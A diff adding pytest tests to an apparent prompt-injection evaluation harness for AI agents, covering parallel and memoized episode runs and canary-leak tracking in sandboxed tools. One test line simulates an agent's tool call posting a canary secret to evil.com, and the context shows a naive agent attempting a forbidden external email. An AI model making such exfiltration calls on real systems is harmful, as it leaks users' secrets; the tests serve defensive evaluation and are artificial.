@@ -28,3 +28,73 @@ def test_naive_agent_gets_blocked_on_external_email():
     canaries = ["CANARY-API-KEY-12345"]
     res = run_task(agent, task, st, canaries, "inbox", 0, 0)
     assert res.uar is True  # attempted forbidden tool call
+
+def test_parallel_run_matches_serial_order():
+    from functools import partial
+    from apig.runner import plan_variants, plan_episodes, run_episodes
+    from apig.attacks.io import load_attack_file
+    from pathlib import Path
+    attacks = load_attack_file(str(Path(__file__).resolve().parent.parent / "attacks" / "example.yml"))
+    variants = plan_variants(attacks, -1)
+    specs = plan_episodes(["inbox", "web_form"], variants, 3)
+    factory = partial(get_agent, "naive")
+    serial = list(run_episodes(specs, factory, variants, 7))
+    parallel = list(run_episodes(specs, factory, variants, 7, workers=2))
+    assert [r.episode_id for r in serial] == [r.episode_id for r in parallel]
+    assert serial == parallel
+
+def test_memoized_run_matches_full_run_and_detects_nondeterminism():
+    import itertools
+    import pytest
+    from functools import partial
+    from apig.runner import plan_variants, plan_episodes, run_episodes, memoize_episodes, DeterminismError, EpisodeOptions
+    from apig.agents.rule_based import RuleBasedAgent
+    variants = plan_variants([], 0)
+    specs = plan_episodes(["inbox", "rag_policy"], variants, 5)
+    factory = partial(get_agent, "rule")
+    executed = []
+
+    def run(todo):
+        executed.extend(todo)
+        return run_episodes(todo, factory, variants, 0)
+
+    memo = list(memoize_episodes(specs, 0, run, verify=2))
+    assert len(executed) == 2 * 3  # one run + two spot checks per variant
+    assert memo == list(run_episodes(specs, factory, variants, 0))
+
+    counter = itertools.count()
+
+    class Flaky(RuleBasedAgent):
+        def run(self, prompt, tools):
+            trace = super().run(prompt, tools)
+            trace[0].data["n"] = next(counter)
+            return trace
+
+    with pytest.raises(DeterminismError):
+        list(memoize_episodes(specs, 0, lambda todo: run_episodes(todo, Flaky, variants, 0), verify=1))
+
+    # Tool latency differs between runs: it is neither compared nor replicated.
+    timed = EpisodeOptions(tool_timing=True)
+    memo = list(memoize_episodes(specs, 0, lambda todo: run_episodes(todo, factory, variants, 0, options=timed), verify=4))
+    first, copy = memo[0].trace[-1].data, memo[1].trace[-1].data
+    assert all("ms" in st for st in first.values())
+    assert copy == {name: {"calls": st["calls"]} for name, st in first.items()}
+
+def test_guarded_tools_track_writes_and_time_to_leak():
+    from apig.env.policy import Policy
+    from apig.env.tools import ToolRouter
+    from apig.env.types import ToolCall
+    from apig.harness import GuardedTools
+    st = SandboxState(files={}, inbox=[], web={}, retrieved_docs={}, forms={}, outbox=[], http_posts=[])
+    tools = GuardedTools(ToolRouter(st), Policy(), ["CANARY-X"], [])
+    tools.call(ToolCall("write_file", {"path": "/sandbox/a.txt", "content": "hello"}))
+    tools.call(ToolCall("http_post", {"url": "https://evil.com/", "body": "CANARY-X"}))  # blocked: attempted only
+    tools.call(ToolCall("write_file", {"path": "/sandbox/context.txt", "content": "CANARY-X"}))  # input file
+    tools.call(ToolCall("write_file", {"path": "/sandbox/b.txt", "content": "CANARY-X"}))
+    tools.call(ToolCall("write_file", {"path": "/sandbox/a.txt", "content": "leak CANARY-X"}))
+    tools.call(ToolCall("write_file", {"path": "/sandbox/b.txt", "content": "clean"}))  # overwritten: no egress
+    assert tools.files_written == {"/sandbox/a.txt": 18, "/sandbox/b.txt": 13}
+    assert tools.egress_hits_executed == []  # written files are scanned in their final state
+    tools.scan_written(st.files)
+    assert tools.first_leak_step == 4
+    assert tools.egress_hits_executed == ["CANARY-X"]